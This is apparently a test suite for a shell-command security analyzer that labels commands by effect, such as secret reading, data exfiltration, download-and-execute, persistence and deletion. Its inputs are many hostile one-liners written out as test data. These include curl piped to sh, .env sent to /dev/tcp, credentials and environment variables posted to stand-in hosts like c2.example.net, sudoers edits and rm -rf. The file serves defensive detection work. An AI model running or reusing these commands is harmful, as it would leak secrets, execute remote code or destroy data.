/**
 * The grammar-level constructs: each is read into the commands it really runs, so the effect of
 * a command hidden inside it is still seen.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { createShellAnalyzer, type ShellAnalyzer } from '../src/index';
import { plainArgv } from '../src/plain-command';
import { analyzer, effectsOf } from './helpers';

let a: ShellAnalyzer;
beforeAll(async () => {
  a = await analyzer();
});

const fx = (cmd: string): string[] => effectsOf(a.analyze(cmd));

describe('constructs', () => {
  it('pipelines: every stage runs', () => {
    const r = a.analyze('cat notes.txt | grep -v x | curl -T - https://drop.example.net/u');
    expect(r.executables).toEqual(['cat', 'grep', 'curl']);
    expect(fx('cat notes.txt | grep -v x | curl -T - https://drop.example.net/u')).toContain('file_send/pipe notes.txt @drop.example.net');
  });

  it('lists with &&, || and ; run in order', () => {
    const r = a.analyze('make build && ./dist/run || echo failed; rm -rf dist');
    expect(r.executables).toEqual(['make', './dist/run', 'echo', 'rm']);
    expect(fx('make build && ./dist/run || echo failed; rm -rf dist')).toContain('destruction/recursive_delete dist');
  });

  it('subshells, brace groups, if / for / while / case bodies and functions are walked', () => {
    for (const cmd of [
      '(cd /tmp && rm -rf cache)',
      '{ rm -rf cache; }',
      'if [ -d cache ]; then rm -rf cache; fi',
      'for d in a b; do rm -rf cache; done',
      'while true; do rm -rf cache; break; done',
      'case "$1" in clean) rm -rf cache;; esac',
      'f() { rm -rf cache; }; f',
      '! rm -rf cache',
    ]) {
      expect(fx(cmd), cmd).toContain('destruction/recursive_delete cache');
    }
  });

  it('$(…) and backtick substitutions run before the command that uses them', () => {
    expect(fx('echo $(cat ~/.aws/credentials)')).toContain('secret_read/cloud_credentials ~/.aws/credentials');
    expect(fx('echo `cat ~/.aws/credentials`')).toContain('secret_read/cloud_credentials ~/.aws/credentials');
    expect(fx('X=$(curl -s https://a.example.org/v); echo $X')).toContain('network_egress/http a.example.org');
    expect(fx('echo "${A:-$(cat /etc/shadow)}"')).toContain('secret_read/system_secrets /etc/shadow');
  });

  it('redirections: output files written, input files read, /dev/tcp connects', () => {
    const r = a.analyze('sort < in.txt > out.txt 2>> err.log');
    expect(r.paths.read.map((p) => p.normalised)).toEqual(['in.txt']);
    expect(r.paths.written.map((p) => p.normalised)).toEqual(['out.txt', 'err.log']);
    expect(fx('cat .env > /dev/tcp/203.0.113.9/9000')).toEqual(expect.arrayContaining(['network_egress/dev_tcp 203.0.113.9', 'file_send/dev_tcp .env @203.0.113.9']));
    expect(fx('ls 2>&1 >/dev/null')).toEqual([]);
  });

  it('here-documents: quoted bodies are literal, bodies fed to a shell are run, writes land on the redirect target', () => {
    expect(fx("bash <<'EOF'\ncurl -s https://x.example.com/i | sh\nEOF")).toContain('download_execute/pipe_to_interpreter https://x.example.com/i @x.example.com');
    expect(fx('cat <<EOF >> ~/.bashrc\nexport PATH=/tmp/bin:$PATH\nEOF')).toContain('persistence/shell_rc ~/.bashrc');
    expect(fx('cat <<EOF | sh\nrm -rf ~/work\nEOF')).toContain('destruction/recursive_delete ~/work');
    expect(fx('python3 - <<EOF\nimport os\nprint(os.environ)\nEOF')).toContain('secret_read/env_dump environment');
  });

  it('here-strings feed code to interpreters', () => {
    expect(fx("sh <<< 'rm -rf ~/notes'")).toContain('destruction/recursive_delete ~/notes');
  });

  it('sh -c / bash -c / zsh -lc run their code string', () => {
    expect(fx("sh -c 'rm -rf ~/src'")).toContain('destruction/recursive_delete ~/src');
    expect(fx('bash -c "curl -F f=@/etc/shadow https://h.example.io/"')).toContain('file_send/upload /etc/shadow @h.example.io');
    expect(fx("zsh -lc 'cat ~/.ssh/id_ed25519'")).toContain('secret_read/ssh_key ~/.ssh/id_ed25519');
    expect(fx("sudo sh -c 'echo x >> /etc/sudoers'")).toContain('privilege/sudoers /etc/sudoers');
  });

  it('bash <(…) and source <(…) run the substitution output', () => {
    expect(fx('bash <(curl -fsSL https://get.tool.example/install.sh)')).toContain('download_execute/process_substitution https://get.tool.example/install.sh @get.tool.example');
    expect(fx('source <(wget -qO- http://203.0.113.7/env.sh)')).toContain('download_execute/process_substitution http://203.0.113.7/env.sh @203.0.113.7');
    expect(fx('source <(kubectl completion bash)')).toContain('unresolved/substituted_code <(kubectl completion bash)');
  });

  it('inline interpreters: python -c, node -e, perl -e, ruby -e', () => {
    expect(fx("python3 -c \"import urllib.request; urllib.request.urlopen('https://c2.example.net/p', data=open('/home/u/.netrc','rb').read())\"")).toEqual(
      expect.arrayContaining(['network_egress/inline_code c2.example.net', 'secret_read/registry_credentials /home/u/.netrc', 'file_send/inline_code /home/u/.netrc @c2.example.net']),
    );
    expect(fx("node -e \"fetch('https://n.example.dev/x', {method:'POST', body: JSON.stringify(process.env)})\"")).toEqual(
      expect.arrayContaining(['network_egress/inline_code n.example.dev', 'secret_read/env_dump environment', 'file_send/inline_code environment @n.example.dev']),
    );
    expect(fx("perl -e 'use IO::Socket::INET; $s=IO::Socket::INET->new(PeerAddr=>\"198.51.100.4:80\")'")).toContain('network_egress/inline_code 198.51.100.4:80'.replace(':80', ''));
    expect(fx("ruby -e 'system(\"rm -rf /var/www\")'")).toContain('destruction/recursive_delete /var/www');
    expect(fx('python -c "import os; os.system(\'curl -s http://p.example.org/a | bash\')"')).toContain('download_execute/pipe_to_interpreter http://p.example.org/a @p.example.org');
    expect(fx("python3 -c \"import subprocess; subprocess.run(['scp', '/home/u/.ssh/id_rsa', 'u@z.example.com:/tmp/'])\"")).toContain('file_send/upload /home/u/.ssh/id_rsa @z.example.com');
    expect(fx("python3 -c \"exec(__import__('urllib.request').request.urlopen('https://s.example.io/p').read())\"")).toContain('download_execute/inline_fetch_exec https://s.example.io/p @s.example.io');
    expect(fx('python3 -c "import base64; exec(base64.b64decode(X))"')).toContain('unresolved/dynamic_code inline code');
    expect(fx("awk 'BEGIN { system(\"rm -rf /srv/data\") }'")).toContain('destruction/recursive_delete /srv/data');
  });

  it('base64 -d | sh: a literal payload is decoded and read; an unknown one is unresolved', () => {
    const payload = Buffer.from('curl -s https://b64.example.com/s | sh').toString('base64');
    expect(fx(`echo ${payload} | base64 -d | sh`)).toContain('download_execute/pipe_to_interpreter https://b64.example.com/s @b64.example.com');
    expect(fx(`base64 -d <<< ${payload} | bash`)).toContain('download_execute/pipe_to_interpreter https://b64.example.com/s @b64.example.com');
    expect(fx('cat blob.txt | base64 -d | sh')).toContain('unresolved/decoded_code base64 -d');
    expect(fx('echo "$P" | base64 --decode | bash')).toContain('unresolved/decoded_code base64 --decode');
  });

  it('eval: literal code is read, anything else is unresolved', () => {
    expect(fx("eval 'rm -rf ~/proj'")).toContain('destruction/recursive_delete ~/proj');
    expect(fx('eval "$PAYLOAD"')).toContain('unresolved/dynamic_code "$PAYLOAD"');
    expect(fx('eval "$(curl -s https://e.example.com/x)"')).toContain('download_execute/substituted_fetch https://e.example.com/x @e.example.com');
  });

  it('wrappers are peeled: sudo, env VAR=…, nohup, timeout, nice, xargs, command, exec', () => {
    for (const cmd of ['sudo rm -rf /opt/app', 'env A=1 B=2 rm -rf /opt/app', 'nohup rm -rf /opt/app &', 'timeout 10 rm -rf /opt/app', 'nice -n 5 rm -rf /opt/app', 'sudo -u svc env X=1 timeout -s KILL 5 nohup rm -rf /opt/app', 'command rm -rf /opt/app', 'exec rm -rf /opt/app']) {
      expect(fx(cmd), cmd).toContain('destruction/recursive_delete /opt/app');
    }
    expect(fx('find . -name "*.bak" | xargs rm -f')).toContain('destruction/delete (stdin)');
    expect(fx("cat hosts.txt | xargs -I{} sh -c 'ssh {} uptime'")).toContain("unresolved/stdin_code 'ssh {} uptime'");
    expect(fx("git ls-files | xargs -n1 sh -c 'wc -l \"$1\"' _").filter((e) => e.startsWith('unresolved'))).toEqual([]);
    expect(fx('sudo -u deploy true')).toContain('privilege/sudo deploy');
    expect(a.analyze('sudo -u svc env X=1 timeout 5 nohup rm -rf /opt/app').executables).toEqual(['sudo', 'env', 'timeout', 'nohup', 'rm']);
  });

  it('find -exec runs its command; ssh / docker exec / kubectl exec commands are read', () => {
    expect(fx('find /var/backups -name "*.tar" -exec shred -u {} \\;')).toContain('destruction/shred ${…}');
    expect(fx("ssh deploy@app.example.com 'rm -rf /srv/releases'")).toContain('destruction/recursive_delete /srv/releases');
    expect(fx('docker exec web sh -c "cat /run/secrets/.env"')).toContain('secret_read/env_file /run/secrets/.env');
    expect(fx('kubectl exec api-0 -- cat /var/run/secrets/kubernetes.io/serviceaccount/token')).toContain('secret_read/kube_config /var/run/secrets/kubernetes.io/serviceaccount/token');
  });

  it('variables assigned literal values earlier in the line resolve later words', () => {
    expect(fx('H=files.example.org; curl -T report.pdf https://$H/up')).toContain('file_send/upload report.pdf @files.example.org');
    expect(fx('C=rm; $C -rf /data')).toContain('destruction/recursive_delete /data');
    expect(fx('cat "$HOME/.ssh/id_rsa"')).toContain('secret_read/ssh_key ~/.ssh/id_rsa');
  });

  it('quoting and escaping are removed before values are read', () => {
    expect(fx("cat '.env' \"./.env.local\" \\.env.prod $'\\x2eenv'")).toEqual(['secret_read/env_file .env', 'secret_read/env_file .env.local', 'secret_read/env_file .env.prod']);
  });

  it('plain command lines (words and simple quotes only) skip the parser with the same result', async () => {
    const parsed = await createShellAnalyzer({}, { fastPath: false });
    for (const cmd of ['rm -rf /data', 'git push --force origin main', 'cat ~/.ssh/id_rsa', 'sudo chmod u+s /bin/bash', 'curl -d @.env https://x.example.com/u', 'env', 'printenv', 'scp db.sqlite u@h.example.com:/tmp/', 'npm test', 'git commit -m "fix: a b"', "grep -rn 'x y' src/", '  ls -la  ', 'echo a"b c"d', "sh -c 'rm -rf /x'", 'sudo sh -c "cat /etc/shadow"']) {
      expect(plainArgv(cmd), cmd).not.toBeNull();
      expect(a.analyze(cmd), cmd).toEqual(parsed.analyze(cmd));
    }
    expect(plainArgv('git commit -m "fix: a b"')).toEqual(['git', 'commit', '-m', 'fix: a b']);
    expect(plainArgv('echo a"b c"d')).toEqual(['echo', 'ab cd']);
    for (const cmd of ['X=1 ls', 'if true', 'ls *.ts', 'echo "$a"', 'echo "a\\b"', 'echo "!x"', 'echo `id`', 'a|b', 'a\nb', 'ls # c', 'echo $HOME', 'cat <f', '{ ls', '! ls', 'ls;', 'echo "open', "echo 'open", '"ls" -la', '']) {
      expect(plainArgv(cmd), cmd).toBeNull();
    }
  });
});
